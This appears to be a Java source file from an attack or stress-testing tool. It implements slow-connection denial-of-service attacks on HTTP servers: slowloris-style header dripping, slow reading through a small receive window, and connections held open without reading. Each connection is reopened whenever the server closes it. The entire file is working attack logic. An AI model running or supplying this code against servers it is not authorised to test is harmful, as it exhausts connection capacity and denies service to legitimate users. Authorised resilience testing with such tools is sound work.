package peel.attack;

import java.io.IOException;
import java.io.InputStream;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.time.Duration;

/// Connections that are opened, sent something, and then kept as long as the server lets them. One that the server closes is
/// opened again.
///
/// @param opening what each connection sends first
/// @param holding what each connection does then
record HeldConnections(String name, int connections, RequestBytes opening, Holding holding) implements Attack {
    /// What a client does on a connection that it keeps.
    sealed interface Holding {}

    /// It sends a piece at a steady rate, and waits for an answer meanwhile.
    record Drip(RequestBytes piece, Duration every) implements Holding {}

    /// It reads the answer slowly.
    record SlowReading(int bytesPerSecond) implements Holding {}

    /// It reads nothing.
    record NoReading() implements Holding {}

    @Override
    public void run(Target target, Duration duration, AttackLog log) throws InterruptedException {
        OpenConnections.run(target, connections, duration, open -> hold(open, log));
    }

    private void hold(OpenConnections open, AttackLog log) {
        while (!open.isOver()) {
            try {
                switch (holding) {
                    case Drip drip -> drip(drip, open, log);
                    case SlowReading slow -> readSlowly(slow.bytesPerSecond(), open, log);
                    case NoReading _ -> readNothing(open, log);
                }
            } catch (IOException e) {
                open.closedByServer(log);
            }
        }
    }

    private void open(Socket socket, OpenConnections open, AttackLog log) throws IOException {
        log.sent();
        opening.sendAsMuchAsPossibleTo(socket);
        open.ready();
    }

    private void drip(Drip drip, OpenConnections open, AttackLog log) throws IOException {
        try (Socket socket = open.connect()) {
            open(socket, open, log);
            socket.setSoTimeout((int) drip.every().toMillis());
            HttpReader reader = new HttpReader(socket);
            while (true) {
                try {
                    log.answered(reader.read());
                    open.closedByServer(log);
                    return;
                } catch (SocketTimeoutException silence) {
                    drip.piece().sendTo(socket);
                }
            }
        }
    }

    private void readSlowly(int bytesPerSecond, OpenConnections open, AttackLog log) throws IOException {
        try (Socket socket = open.connectWithSmallWindow()) {
            open(socket, open, log);
            InputStream in = socket.getInputStream();
            byte[] piece = new byte[Math.max(1, bytesPerSecond / 2)];
            while (in.read(piece) >= 0) {
                open.pause(500);
            }
            open.closedByServer(log);
        }
    }

    private void readNothing(OpenConnections open, AttackLog log) throws IOException {
        try (Socket socket = open.connectWithSmallWindow()) {
            open(socket, open, log);
            open.pause(Long.MAX_VALUE);
        }
    }
}
